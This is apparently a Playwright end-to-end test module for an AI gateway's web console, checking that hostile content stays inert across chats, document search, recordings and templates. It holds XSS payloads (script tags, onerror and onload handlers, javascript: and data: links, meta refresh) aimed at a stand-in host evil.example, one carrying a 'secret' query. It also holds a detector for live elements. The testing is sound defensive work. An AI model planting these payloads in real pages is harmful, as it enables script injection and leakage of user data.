"""What people, models and files write is shown on every page, and nothing of it runs or is fetched."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import httpx
import pytest_asyncio
from playwright.async_api import Page, expect
from playwright.async_api import TimeoutError as TooLong

from browser.window import Window
from peers import scripts
from peers.upstream import Exchange, Upstream

BEACON = "https://evil.example"
NAME = f"<img src={BEACON}/n.png onerror=window.ran=1><svg onload=window.ran=2>[x](javascript:window.ran=3)"
"""Where a name stands: in one line."""
MARKDOWN = f"""Hello <script>window.ran = 1</script> <img src=x onerror="window.ran = 2"> **word**

![beacon]({BEACON}/?q=secret) [click](javascript:window.ran=3) [here](data:text/html,<script>window.ran=4</script>)
<svg onload="window.ran = 4"><use href="{BEACON}/s.svg#x"/></svg> <iframe src="{BEACON}/"></iframe>
<a href="{BEACON}/" onclick="window.ran = 5">link</a> <style>@import url({BEACON}/c.css)</style>
<link rel="stylesheet" href="{BEACON}/c.css"><meta http-equiv="refresh" content="0;url={BEACON}/">

| a |
| - |
| <img src="{BEACON}/t.png" onerror="window.ran = 6"> ![t]({BEACON}/t2.png) |

$\\href{{javascript:window.ran=7}}{{x}}$ and $\\includegraphics{{{BEACON}/m.png}}$

```html
<script>window.ran = 8</script><img src="{BEACON}/code.png">
```

- [ ] <img src="{BEACON}/l.png">

[ref]: {BEACON}/r.png
![ref]
"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="parent.ran = 9">
<script>parent.ran = 10</script><image href="{BEACON}/i.png"/></svg>"""
PAGE = f"<html><script>window.ran = 11; fetch('{BEACON}/page')</script><img src='{BEACON}/p.png'></html>"
SCHEMA = {
    "type": "object",
    "title": NAME,
    "properties": {
        NAME: {"type": "string", "title": NAME, "description": MARKDOWN, "default": NAME},
        "choice": {"enum": [NAME, None], "description": NAME},
        "inner": {"type": "object", "title": NAME, "properties": {NAME: {"type": ["string", "null"]}}},
        "many": {"type": "array", "title": NAME, "items": {"type": "string", "description": NAME}},
    },
    "required": [NAME],
}
EXAMPLE = {NAME: MARKDOWN, "choice": NAME, "inner": {NAME: NAME}, "many": [NAME, MARKDOWN]}

# All that could run or fetch by itself. Pictures of ours: blobs that the page made, and files of this server.
ALIVE = """() => [...document.querySelectorAll('*')].filter(one => {
    const [tag, link] = [one.localName, one.getAttribute('href') ?? one.getAttribute('src') ?? ''];
    if (['iframe', 'object', 'embed', 'base'].includes(tag)) return true;
    if (tag === 'script') return !link.startsWith('/console/');
    if (tag === 'link') return /^(https?:)?\\/\\//.test(link) && !link.startsWith(location.origin);
    if (tag === 'img' || tag === 'image' || tag === 'use') return !/^(blob:|\\/|#)/.test(link);
    if (/^\\s*(javascript|data|vbscript):/i.test(link)) return true;
    return one.getAttributeNames().some(name => name.startsWith('on'));
}).map(one => one.outerHTML.slice(0, 200))"""


@dataclass(frozen=True)
class Seeded:
    """Where the hostile things lie: ids."""

    session: str
    store: str
    template: str
    recording: str
    files: tuple[str, ...]


async def model(exchange: Exchange) -> None:
    """A model server that means harm as well."""
    if exchange.request.path.endswith("/models"):
        await scripts.json_answer({"data": [{"id": NAME}]})(exchange)
    elif exchange.request.json().get("stream"):
        await scripts.stream(scripts.good_events(*MARKDOWN.splitlines(keepends=True)))(exchange)
    else:
        await scripts.json_answer(scripts.completion(json.dumps(EXAMPLE)))(exchange)


async def made(client: httpx.AsyncClient, path: str, **sent: Any) -> Any:
    answer = await client.post(path, **sent)
    assert answer.is_success, (path, answer.text)
    return answer.json()


async def until(client: httpx.AsyncClient, path: str, key: str, ended: set[str]) -> Any:
    """What is there once it has ended; the server is another process, which can only be asked."""
    async with asyncio.timeout(30):
        found = (await client.get(path)).json()
        while found[key] not in ended:
            await asyncio.sleep(0.1)
            found = (await client.get(path)).json()
    return found


async def seed(client: httpx.AsyncClient, url: str) -> Seeded:
    """Write hostile things wherever something can be written."""
    target = f"weird/{NAME}"
    await made(
        client, "/v1/providers", json={"name": "weird", "kind": "openai", "url": url, "models": [NAME]}
    )
    await made(client, "/v1/aliases", json={"name": f"alias {NAME}", "targets": [target]})
    await made(client, "/v1/keys", json={"name": NAME, "scopes": ["models:read"]})
    files = []
    for name, kind, content in (
        (f"{NAME}.md", "text/markdown", MARKDOWN),
        ("evil.svg", "image/svg+xml", SVG),
        ("evil.html", "text/html", PAGE),
    ):
        sent = {"file": (name, content.encode(), kind)}
        files.append((await made(client, "/v1/files", data={"purpose": "user_data"}, files=sent))["id"])
    about = {"name": NAME, "description": MARKDOWN, "file_ids": [files[0], files[2]]}
    store = (await made(client, "/v1/vector_stores", json=about))["id"]
    template = {
        "name": "hostile",
        "title": NAME,
        "description": MARKDOWN,
        "schema": SCHEMA,
        "prompt": "Tell.",
    }
    template_id = (await made(client, "/v1/templates", json=template | {"example": EXAMPLE}))["id"]
    asked = {
        "text": MARKDOWN,
        "title": NAME,
        "template_id": template_id,
        "model": target,
        "metadata": {NAME: NAME},
    }
    begun = {
        "title": NAME,
        "tags": [NAME[:100]],
        "model": target,
        "system": MARKDOWN,
        "metadata": {NAME: NAME},
    }
    session = (await made(client, "/v1/sessions", json=begun))["id"]
    await made(client, f"/v1/sessions/{session}/messages", json={"content": MARKDOWN, "attachments": files})
    await until(client, f"/v1/vector_stores/{store}", "status", {"completed"})
    # Last: the process that runs it hears of a new provider a moment later.
    recording = (await made(client, "/v1/process_text", json=asked))["task_id"]
    ended = await until(client, f"/v1/status/{recording}", "status", {"COMPLETE", "FAILED"})
    assert ended["status"] == "COMPLETE", ended["error"]
    assert ended["results"]["summary"] == EXAMPLE
    said = await client.patch(
        f"/v1/recordings/{recording}/segments/1", json={"text": MARKDOWN, "speaker": NAME[:100]}
    )
    assert said.is_success, said.text
    return Seeded(session, store, template_id, recording, tuple(files))


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def seeded(server: Any, admin_key: str) -> AsyncIterator[Seeded]:
    headers = {"authorization": f"Bearer {admin_key}"}
    async with (
        Upstream(model) as up,
        httpx.AsyncClient(base_url=server.url, headers=headers, timeout=30) as client,
    ):
        try:
            yield await seed(client, up.url)
        finally:
            for path in (f"/v1/aliases/{quote(f'alias {NAME}', safe='')}", "/v1/providers/weird"):
                await client.delete(path)


async def dead(one: Window, place: str) -> None:
    """Nothing on the page is alive."""
    assert await one.page.evaluate(ALIVE) == [], place
    assert await one.page.evaluate("window.ran") is None, place
    assert [fault for fault in one.faults if "elsewhere" in fault] == [], place


async def through_tabs(one: Window, path: str) -> None:
    """A page, and each of its tabs."""
    await one.open(path)
    await dead(one, path)
    tabs = one.page.get_by_role("tab")
    for number in range(await tabs.count()):
        await tabs.nth(number).click()
        await one.drawn()
        await dead(one, f"{path}, tab {number}")


async def test_every_list_and_every_tab(window, seeded):
    async with window() as one:
        await one.open("/")
        links = await one.page.locator("nav a[href^='/console/']").evaluate_all(
            "links => links.map(link => link.getAttribute('href').slice('/console'.length))"
        )
        for path in links:
            await through_tabs(one, path)
        for path in (
            f"/documents/{seeded.store}/files",
            f"/audio/{seeded.recording}",
            "/audio/templates",
            f"/audio/templates/{seeded.template}",
        ):
            await through_tabs(one, path)


async def test_a_conversation_and_what_was_found_of_it(window, seeded):
    async with window() as one:
        page = one.page
        await one.open(f"/chat/{seeded.session}")
        await page.get_by_role("article", name="Answer").locator(".hljs-tag, .hljs-name").first.wait_for()
        await dead(one, "conversation")
        links = await page.locator("article a[href^=http]").evaluate_all(
            "links => links.map(link => [link.rel, link.target])"
        )
        assert links == [["noreferrer noopener nofollow", "_blank"]] * len(links)
        # A vector picture is a file to take away, never one of the page.
        assert await page.locator("article img").count() == 0
        # A dialog's code may still be on its way when it is asked for.
        dialog = page.get_by_role("dialog").or_(page.get_by_role("alertdialog"))
        await page.get_by_role("button", name="Why weird/").click()
        await dialog.wait_for()
        await dead(one, "why")
        await page.keyboard.press("Escape")
        await dialog.wait_for(state="detached")
        for action in ("Statistics", "Rename", "Folders", "Delete"):
            await session_menu(page, action)
            await dialog.wait_for()
            await dead(one, action)
            await page.keyboard.press("Escape")
            await dialog.wait_for(state="detached")
        await page.get_by_label("Search titles and messages").fill("word")
        await page.locator("mark").first.wait_for()
        await dead(one, "found")


async def session_menu(page: Page, action: str) -> None:
    """Choose from the menu. A dialog closed before gives the focus back a moment later: a menu opened since closes."""
    item = page.get_by_role("menuitem", name=action, exact=True)
    for _ in range(5):
        await page.locator("main header").get_by_role("button", name="Actions for").click()
        try:
            await item.click(timeout=2_000)
            return
        except TooLong:
            await page.keyboard.press("Escape")
            await item.wait_for(state="detached")
    raise AssertionError(f"the menu never stayed open for {action!r}")


async def test_what_was_read_found_and_answered(window, seeded):
    async with window() as one:
        page = one.page
        await one.open(f"/documents/{seeded.store}/search")
        await page.get_by_role("searchbox").fill("Hello word")
        await page.keyboard.press("Enter")
        await page.get_by_role("region", name="What was found").locator("ol > li").first.wait_for()
        await dead(one, "search")
        await one.open(f"/documents/{seeded.store}/files")
        await page.get_by_role("row").filter(has_text="Ready").get_by_role("button").first.click()
        await page.get_by_role("dialog").get_by_text("Hello").first.wait_for()
        await dead(one, "preview")
        await page.keyboard.press("Escape")
        await one.open(f"/documents/{seeded.store}/ask")
        await page.get_by_label("Question").fill("Hello word?")
        await page.keyboard.press("Enter")
        await expect(page.get_by_text("Hello").last).to_be_visible()
        await dead(one, "ask")


async def test_a_recording_and_the_forms_of_its_template(window, seeded):
    async with window() as one:
        page = one.page
        await one.open(f"/audio/{seeded.recording}")
        await page.get_by_role("radio", name="As heard").click()
        await page.get_by_text("window.ran").first.wait_for()
        await dead(one, "segments")
        await page.get_by_role("tab", name="Summary").click()
        await page.get_by_role("button", name="Correct").click()
        await page.get_by_role("form", name="Summary").get_by_role("textbox").first.wait_for()
        await dead(one, "summary form")
        await one.open("/audio")
        await page.get_by_label("Search in what was said").fill("word")
        await page.keyboard.press("Enter")
        await page.locator("mark").first.wait_for()
        await dead(one, "found")


async def test_files_of_others_are_taken_away_and_never_opened(window, seeded):
    async with window(expected="Failed to load") as one:
        await one.open("/")
        for file_id in seeded.files:
            async with one.page.expect_download() as taken:
                await one.page.evaluate("url => { location.href = url }", f"/v1/files/{file_id}/content")
            assert await (await taken.value).failure() is None
            await dead(one, file_id)
        assert one.page.url.endswith("/console/")
